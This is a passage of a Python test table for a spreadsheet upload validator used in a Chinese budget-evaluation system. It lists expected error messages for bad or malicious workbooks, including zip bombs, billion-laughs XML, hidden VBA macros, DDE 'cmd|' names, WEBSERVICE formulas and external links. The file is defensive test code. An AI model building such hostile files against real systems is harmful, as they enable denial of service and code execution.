    _c(renamed_csv, "error", FILE, None, "", "CSV", "另存为 .xlsx", cli=True),
    _c(renamed_csv_gbk, "error", FILE, None, "", "CSV"),
    _c(unicode_text_export, "error", FILE, None, "", "CSV"),
    _c(renamed_html, "error", FILE, None, "", "HTML", "另存为", cli=True),
    _c(excel_2003_xml, "error", FILE, None, "", "2003 XML"),
    _c(empty_file, "error", FILE, None, "", "空", "0 字节"),
    _c(truncated_zip, "error", FILE, None, "", "不完整", hostile=True),
    _c(random_bytes, "error", FILE, None, "", "无法识别", hostile=True),
    _c(old_xls, "error", FILE, None, "", ".xls", "另存为"),
    _c(encrypted_xlsx, "error", FILE, None, "", "密码"),
    _c(pdf_file, "error", FILE, None, "", "PDF"),
    _c(gzip_file, "error", FILE, None, "", "压缩包"),
    _c(xlsb_file, "error", FILE, None, "", ".xlsb"),
    _c(ods_file, "error", FILE, None, "", ".ods"),
    _c(docx_file, "error", FILE, None, "", "Word"),
    _c(plain_zip, "error", FILE, None, "", "ZIP 压缩包"),
    _c(oversize_file, "error", FILE, None, "", "文件过大", "30.0 MB"),
    # hostile
    _c(macro_enabled, "error", FILE, None, "", "宏", ".xlsx", hostile=True),
    _c(macro_content_type_only, "error", FILE, None, "", "宏"),
    _c(zip_bomb, "error", FILE, None, "", "压缩炸弹", hostile=True),
    _c(zip_bomb_lying_header, "error", "指标评分", None, "", "损坏"),
    _c(ratio_bomb, "error", FILE, None, "", "压缩比", "customXml/item1.xml"),
    _c(billion_laughs, "error", "单位", None, "", "DOCTYPE", "十亿笑声", hostile=True),
    _c(billion_laughs_in_workbook_xml, "error", FILE, None, "", "DOCTYPE", "xl/workbook.xml"),
    _c(utf16_part, "error", "单位", None, "", "编码"),
    _c(far_cell, "error", "单位", None, "", "使用区域过大", "1,048,576", hostile=True),
    _c(huge_shared_string_count, "error", FILE, None, "", "4,000,000,000", "拒绝读取", hostile=True),
    _c(too_many_merged_cells, "error", "单位", None, "", "10,001 个合并单元格", "取消合并"),
    _c(missing_sheet_part, "error", "单位", None, "", "找不到", "重新保存"),
    _c(junk_rows, "error", "指标评分", 150_002, "", "超过上限", "150,000", hostile=True),
    # cells Excel shows differently from what they hold
    _c(merged_header, "error", B, 1, "", "合并单元格", "A1:B1"),
    _c(merged_data_cells, "error", "问题", 3, "问题类别", "合并单元格", "C2:C3"),
    _c(merged_range_beyond_xfd, "warning", "问题", 3, "", "合并单元格", "B3:AAAAA3"),
    _c(formula_without_result, "error", B, 2, "预算金额（万元）", "公式", "没有保存计算结果"),
    _c(formula_with_result, "error", B, 2, "预算金额（万元）", "是公式", "选择性粘贴", cli=True),
    _c(optional_formula_without_result, "error", B, 2, "报告执行率（%）", "公式"),
    _c(error_div0, "error", B, 2, "预算金额（万元）", "#DIV/0!", "D2", cli=True),
    _c(error_ref_in_score, "error", "指标评分", 2, "得分", "#REF!"),
    _c(error_na_in_unit, "error", B, 3, "单位", "#N/A", "A3"),
    _c(hidden_required_sheet, "error", "问题", None, "", "隐藏", "取消隐藏", cli=True),
    _c(very_hidden_unknown_sheet, "error", "草稿", None, "", "隐藏", "删除该工作表"),
    _c(full_width_digits, "error", B, 2, "预算金额（万元）", "全角", "应填 3400.06", cli=True),
    _c(wan_in_number, "error", B, 2, "预算金额（万元）", "只填数字 3400.06", "不要带“万元”字", cli=True),
    _c(full_width_wan, "error", B, 2, "实际执行金额（万元）", "全角", "应填 2811.47）"),
    _c(yuan_text, "error", B, 2, "预算金额（万元）", "换算为万元", "3400.06"),
    _c(yi_yuan_text, "error", B, 3, "预算金额（万元）", "换算为万元", "10931.32"),
    _c(trailing_space_unit, "error", B, 2, "单位", "空格", "改为“市数据局”", cli=True),
    _c(full_width_space_unit, "error", "整改", 3, "责任单位", "全角空格"),
    _c(formula_looking_text, "ok", "问题", 2, "问题内容"),
    # the validation rules: errors
    _c(missing_units_sheet, "error", "单位", None, "", "缺少必需的工作表", "模板", cli=True),
    _c(sheet_empty, "error", "单位", None, "", "工作表为空", "列标题"),
    _c(missing_column, "error", B, 1, "预算金额（万元）", "缺少必填列", "恢复"),
    _c(text_in_number, "error", B, 2, "预算金额（万元）", "应为数值", "abc"),
    _c(fraction_in_int, "error", "问题", 3, "类别序号", "整数"),
    _c(level_out_of_range, "error", "指标体系", 4, "层级", "不能大于 3"),
    _c(negative_amount, "error", B, 3, "实际执行金额（万元）", "不能为负数", "请填写 0 或正数", cli=True),
    _c(absurd_amount, "error", B, 3, "预算金额（万元）", "数值过大"),
    _c(unknown_unit, "error", B, 3, "单位", "单位未在", "市统计局"),
    _c(duplicate_problem_id, "error", "问题", 3, "问题编号", "重复", "第2行"),
    _c(duplicate_unit_key, "error", "单位", 4, "单位简称", "重复", "第3行"),
    _c(top_points_not_100, "error", "指标体系", None, "分值", "应为 100", "105", cli=True),
    _c(child_points_mismatch, "error", "指标体系", 3, "分值", "A1", "应等于其分值 5"),
    _c(score_above_points, "error", "指标评分", 2, "得分", "超过该指标分值 2", "0 到 2"),
    _c(deadline_not_a_date, "error", "整改", 2, "整改期限", "日期", "明年"),
    _c(impossible_date, "error", "整改记录", 3, "日期", "不是有效的日期"),
    _c(unknown_status, "error", "整改", 3, "整改状态", "未知的整改状态", "已整改"),
    _c(unknown_expert_method, "error", "评价信息", 9, "专家得分合成方式", "可选", "平均值"),
    # the validation rules: warnings
    _c(executed_above_budget, "warning", B, 2, "实际执行金额（万元）", "超过预算金额", "核实"),
    _c(stated_rate_far, "warning", B, 2, "报告执行率（%）", "不一致", "82.69"),
    _c(category_heading_row, "warning", "问题", 21, "问题类别", "只有类别"),
    _c(category_gap, "warning", "建议", 17, "类别序号", "不连续", "第 6 类"),
    _c(extra_sheet, "warning", "草稿", None, "", "未知工作表", "删除"),
    _c(stated_total_mismatch, "warning", "评价信息", 16, "报告资金总额（万元）", "合计 14331.38"),
    _c(sheet_name_with_space, "warning", "单位 ", None, "", "多余空格", "已按“单位”读取"),
    _c(header_with_space, "warning", B, 1, "预算金额（万元）", "多余空格"),
    _c(history_date_as_text, "ok", "整改记录", 2, "日期"),
    # issue 13: duplicated rows, missing parts, parts and formulas the stored file must not carry
    _c(duplicate_budget_line, "error", B, 4, "项目名称", "与第2行重复", "多算一次", cli=True),
    _c(duplicate_budget_line_other_amounts, "warning", B, 4, "项目名称", "与第2行", "金额不同", "都会计入"),
    _c(duplicate_score_by_full_name, "error", "指标评分", 116, "单位", "与第2行重复", "专家A"),
    _c(duplicate_problem_text, "error", "问题", 21, "问题内容", "与第2行", "重复"),
    _c(duplicate_recommendation_text, "error", "建议", 20, "建议内容", "与第2行", "重复"),
    _c(duplicate_rectification_task, "error", "整改", 21, "整改事项", "与第2行", "重复"),
    _c(missing_budget_sheet, "warning", "评价信息", 16, "报告资金总额（万元）", "无法核对", "没有任何预算行"),
    _c(missing_scores_sheet, "warning", "评价结果", 2, "报告得分", "无法核对", "市数据局"),
    _c(missing_achievements_sheet, "warning", "产出成效", None, "", "没有“产出成效”工作表", "看板将没有产出成效"),
    _c(media_bomb_lying_header, "error", FILE, None, "", "图片", "xl/media/image1.png", hostile=True),
    _c(thumbnail_bomb_lying_header, "error", FILE, None, "", "大于文件头中登记的大小", "docProps/thumbnail.jpeg",
       hostile=True),
    _c(formula_on_extra_sheet, "error", "草稿", 1, "", "是公式", "原样保存", cli=True),
    _c(formula_outside_columns, "error", B, 2, "", "J2 是公式"),
    _c(hyperlink_formula_with_result, "error", B, 3, "", "K3 是公式"),
    _c(external_link_part, "error", FILE, None, "", "外部链接", "xl/externalLinks/externalLink1.xml", hostile=True),
    _c(vba_under_another_name, "error", FILE, None, "", "宏", "xl/printerSettings/printerSettings1.bin",
       hostile=True),
    _c(vba_content_type_other_name, "error", FILE, None, "", "宏（VBA 工程）", "xl/data.dat"),
    _c(activex_part, "error", FILE, None, "", "ActiveX", "xl/activeX/activeX1.xml"),
    _c(embedded_object, "error", FILE, None, "", "嵌入", "Microsoft_Word_Document1.docx"),
    _c(form_control, "error", FILE, None, "", "表单控件", "xl/ctrlProps/ctrlProp1.xml"),
    _c(unc_hyperlink, "error", FILE, None, "", "外部链接", "share"),
    _c(web_hyperlink, "ok", FILE, None, ""),
    _c(dde_defined_name, "error", FILE, None, "", "名称", "cmd|"),
    # issue 27: formulas hidden from a byte pattern; formulas of conditional formats and data validations
    _c(formula_attribute_order, "error", B, 2, "", "J2 是公式"),
    _c(formula_single_quotes, "error", B, 2, "", "J2 是公式"),
    _c(formula_after_comment, "error", B, 2, "", "J2 是公式"),
    _c(formula_namespace_prefix, "error", B, 2, "", "J2 是公式", cli=True),
    _c(formula_tab, "error", B, 2, "", "J2 是公式"),
    _c(conditional_format_formula, "error", B, None, "", "条件格式", "WEBSERVICE", cli=True),
    _c(conditional_format_harmless, "ok", B, None, ""),
    _c(data_validation_formula, "error", B, None, "", "数据验证", "DDE"),
    _c(data_validation_x14_formula, "error", B, None, "", "数据验证", "INDIRECT"),
    _c(far_cell_attribute_order, "error", "单位", None, "", "使用区域过大", "1,048,576", hostile=True),
)

BY_NAME = {c.name: c for c in CASES}


@functools.cache
def data(name: str) -> bytes:
    return BY_NAME[name].build()
